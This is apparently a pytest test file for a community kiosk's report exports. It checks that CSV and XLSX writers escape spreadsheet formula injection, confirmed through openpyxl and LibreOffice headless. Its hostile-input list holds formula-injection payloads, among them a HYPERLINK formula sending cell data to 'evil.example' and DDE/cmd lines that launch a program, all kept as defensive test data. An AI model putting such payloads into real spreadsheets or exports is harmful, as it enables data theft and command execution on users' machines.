"""No formula reaches a spreadsheet (issue 14): groups, places, the commune's name, lesson ids
and titles that begin with =, +, -, @, a tab or a carriage return are written as inert text.

The report's XLSX is read back with openpyxl (no cell of type formula, every text as it was)
and both the XLSX and the CSV are opened by LibreOffice headless (converted to a flat ODS, in
which a formula is a `table:formula` attribute, and to CSV). A CSV written without
kiosk/sheetcells.py shows that LibreOffice does run such formulas, so the check can fail."""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest

from kiosk import sheetcells
from kiosk.records.files import records_path
from kiosk.records.model import NewPerson
from kiosk.records.store import RecordStore
from kiosk.reports.build import build_report
from kiosk.reports.exports import write_csv, write_xlsx
from kiosk.reports.model import Report, ReportQuery

ROOT = Path(__file__).resolve().parents[1]
KIOSK = "00000000-0000-4000-8000-0000000000f1"

# Texts people could type as a residential group or a place (stored through the store's
# own checks): every one would be a formula, a link or a command in a spreadsheet.
STORED = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://evil.example/?d="&A1;"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "=1+1,=2+2;=3+3",
    '="1"&"1"',
    "＝1+1",
    "﹦1+1",
    "-",
    "@A1",
    "=A1 Tổ 5",
]
# Texts only the commune's name, a filter or a lesson pack can hold (the store refuses
# control characters and trims spaces): a tab, a carriage return or spaces before the formula.
UNSTORED = [
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000+1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
]
HOSTILE = STORED + UNSTORED
HARMLESS = [
    "Nguyễn Thị Đều",
    "Tổ dân phố số 3",
    "Nhà văn hóa tổ 5",
    "2026-04-01",
    "Lê-Văn Tám",
    "Anh - em",
    "e@mail",
    "1+1",
    "",
    "'quoted",
]


def now() -> datetime:
    return datetime(2026, 5, 10, 5, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> tuple[Report, dict[str, str]]:
    """A commune whose groups, places and lesson ids are hostile; the titles of its lessons
    too, and its name."""
    path = records_path(tmp_path_factory.mktemp("hostile"))
    store = RecordStore.open(path, KIOSK, now=now)
    titles: dict[str, str] = {}
    try:
        for number, text in enumerate(STORED):
            person, _ = store.add_person(NewPerson(f"Người {number}", 1950, text))
            session = store.start_session("group", text, "Chị Mai")
            store.add_attendance(session.id, person.id)
            store.record_support(person.id, "install_vneid", session.id)
            store.record_completion(text, person.id, language="vi")  # a hostile lesson id
            store.end_session(session.id)
        for number, text in enumerate(HOSTILE):
            lesson = f"lesson-{number:02d}"
            store.record_completion(lesson, None, language="vi")
            titles[lesson] = text
        query = ReportQuery(date(2026, 5, 1), date(2026, 5, 31))
        built = build_report(store, query, "\t=1+1 Xã Đông Anh", now())
    finally:
        store.close()
    assert set(built.by_group) == set(STORED)
    return built, titles


@pytest.mark.parametrize("text", HOSTILE)
def test_every_hostile_text_looks_like_a_formula(text):
    assert sheetcells.looks_like_formula(text)
    assert sheetcells.csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text):
    assert not sheetcells.looks_like_formula(text)
    assert sheetcells.csv_cell(text) == text


def test_numbers_stay_numbers():
    assert sheetcells.csv_row([-5, 0, 12, "-5"]) == [-5, 0, 12, "'-5"]


def test_xlsx_cells_are_strings_never_formulas(report, tmp_path):
    built, titles = report
    path = tmp_path / "report.xlsx"
    write_xlsx(built, path, "vi", titles)
    book = openpyxl.load_workbook(path)
    texts: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert cell.data_type == "s"
                    if sheetcells.looks_like_formula(cell.value):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate)
    # XML reads a carriage return back as a line feed; the text is otherwise exact.
    expected = {text.replace("\r", "\n") for text in HOSTILE} | {"\t=1+1 Xã Đông Anh"}
    assert expected <= set(texts)
    numbers = openpyxl.load_workbook(path)["Tổng hợp"]
    assert any(isinstance(cell.value, int) for row in numbers.iter_rows() for cell in row)


def test_csv_cells_are_escaped(report, tmp_path):
    built, titles = report
    path = tmp_path / "report.csv"
    write_csv(built, path, "en", titles)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    for text in HOSTILE:
        assert "'" + text in cells, text
        assert text not in cells, text
    for cell in cells:
        assert not sheetcells.looks_like_formula(cell), cell


def test_characters_xml_cannot_carry_do_not_stop_the_xlsx(report, tmp_path):
    built, _ = report
    titles = {f"lesson-{n:02d}": f"Bài{chr(n % 8 + 1)}\x1b\ufffe{n}" for n in range(len(HOSTILE))}
    path = tmp_path / "report.xlsx"
    write_xlsx(built, path, "en", titles)
    values = [
        cell.value
        for sheet in openpyxl.load_workbook(path).worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]
    assert "Bài\ufffd\ufffd\ufffd3" in values


# -- LibreOffice -------------------------------------------------------------------------------

OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"


def soffice() -> str:
    """LibreOffice (Debian: libreoffice-calc-nogui): the tests skip without it, except under
    CI (the CI environment variable set), where they fail instead."""
    found = shutil.which("soffice")
    if found is None:
        missing = "LibreOffice (soffice, Debian package libreoffice-calc-nogui) is not installed"
        if os.environ.get("CI"):
            pytest.fail(missing)
        pytest.skip(missing)
    return found


CSV_UTF8 = "Text - txt - csv (StarCalc):44,34,76,1"  # comma, double quote, UTF-8, line 1


def convert(
    files: list[Path], target: str, out: Path, profile: Path, infilter: str | None = None
) -> None:
    """`soffice --headless --convert-to target` with a profile of its own."""
    command = [
        soffice(),
        f"-env:UserInstallation={profile.as_uri()}",
        "--headless",
        "--norestore",
        *([f"--infilter={infilter}"] if infilter else []),
        "--convert-to",
        target,
        "--outdir",
        str(out),
        *map(str, files),
    ]
    env = {**os.environ, "HOME": str(profile)}
    subprocess.run(command, check=True, capture_output=True, timeout=180, env=env)


def cells_of(fods: Path) -> tuple[list[str], list[str]]:
    """The formulas of a flat ODS file, and the text of every cell."""
    tree = ET.parse(fods)
    formulas, texts = [], []
    for cell in tree.iter(f"{{{TABLE}}}table-cell"):
        formula = cell.get(f"{{{TABLE}}}formula")
        if formula is not None:
            formulas.append(formula)
        paragraphs = ["".join(p.itertext()) for p in cell.iter(f"{{{TEXT}}}p")]
        if paragraphs:
            texts.append("\n".join(paragraphs))
    return formulas, texts


@pytest.fixture(scope="module")
def office(report, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Our XLSX and CSV, and a CSV written without the guard, through LibreOffice."""
    built, titles = report
    folder = tmp_path_factory.mktemp("office")
    profile = folder / "profile"
    xlsx, ours, naive = folder / "book.xlsx", folder / "table.csv", folder / "naive.csv"
    write_xlsx(built, xlsx, "vi", titles)
    write_csv(built, ours, "vi", titles)
    with naive.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows([[text] for text in HOSTILE])
    plain_book = openpyxl.Workbook()
    for text in STORED:
        plain_book.active.append([text])  # openpyxl as it comes: = makes a formula
    plain_book.save(folder / "naive-book.xlsx")
    start = time.monotonic()
    convert([xlsx, folder / "naive-book.xlsx"], "fods", folder / "fods", profile)
    convert([ours, naive], "fods", folder / "fods", profile, infilter=CSV_UTF8)
    # every sheet of the XLSX as its own CSV (the last field: -1, all sheets)
    convert(
        [xlsx],
        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
        folder / "csv",
        profile,
    )
    print(f"LibreOffice conversions: {time.monotonic() - start:.1f} s", file=sys.stderr)
    return {"folder": folder}


def test_libreoffice_runs_the_formulas_of_unguarded_files(office):
    formulas, _ = cells_of(office["folder"] / "fods" / "naive.fods")
    assert len(formulas) >= 5  # =1+1, HYPERLINK, the DDE, ... would have been run
    formulas, _ = cells_of(office["folder"] / "fods" / "naive-book.fods")
    assert len(formulas) >= 5


def test_libreoffice_finds_no_formula_in_the_xlsx(office):
    formulas, texts = cells_of(office["folder"] / "fods" / "book.fods")
    assert formulas == []
    for text in STORED:
        assert text in texts, text
    sheets = sorted((office["folder"] / "csv").glob("*.csv"))
    assert len(sheets) == 5, sheets
    seen: list[str] = []
    for sheet in sheets:
        with sheet.open(encoding="utf-8", newline="") as handle:
            seen += [cell for row in csv.reader(handle) for cell in row]
    for text in STORED:
        assert text in seen, text  # the text itself, not what a formula would make of it


def test_libreoffice_finds_no_formula_in_the_csv(office):
    formulas, texts = cells_of(office["folder"] / "fods" / "table.fods")
    assert formulas == []
    for text in STORED:
        assert "'" + text in texts, text


def test_the_report_command_writes_inert_files(tmp_path):
    """`kiosk report` end to end: a commune's name and a place that are formulas."""
    data = tmp_path / "data"
    data.mkdir()
    (data / "settings.json").write_text('{"commune_name": "=HYPERLINK(\\"http://x\\";\\"Xã\\")"}')
    store = RecordStore.open(records_path(data), KIOSK)
    try:
        person, _ = store.add_person(NewPerson("Lê Văn Tám", 1950, "@SUM(1,1)"))
        session = store.start_session("group", "=1+1", "")
        store.add_attendance(session.id, person.id)
        store.end_session(session.id)
    finally:
        store.close()
    today = datetime.now().date().isoformat()
    for kind in ("csv", "xlsx"):
        out = tmp_path / f"report.{kind}"
        done = subprocess.run(
            [
                *(sys.executable, "-m", "kiosk", "report", "--from", today, "--to", today),
                *("--location", "=1+1", "--format", kind, "--out", str(out)),
                *("--data-dir", str(data), "--lang", "vi"),
            ],
            capture_output=True,
            text=True,
            cwd=ROOT,
            timeout=120,
        )
        assert done.returncode == 0, done.stderr
        if kind == "csv":
            text = out.read_text(encoding="utf-8-sig")
            assert '"\'=HYPERLINK(""http://x"";""Xã"")"' in text
            assert '"\'=1+1"' in text and '"\'@SUM(1,1)"' in text
        else:
            book = openpyxl.load_workbook(out)
            values = {
                cell.value: cell.data_type
                for sheet in book.worksheets
                for row in sheet.iter_rows()
                for cell in row
            }
            assert values['=HYPERLINK("http://x";"Xã")'] == "s"
            assert values["=1+1"] == "s" and values["@SUM(1,1)"] == "s"
            assert "f" not in values.values()
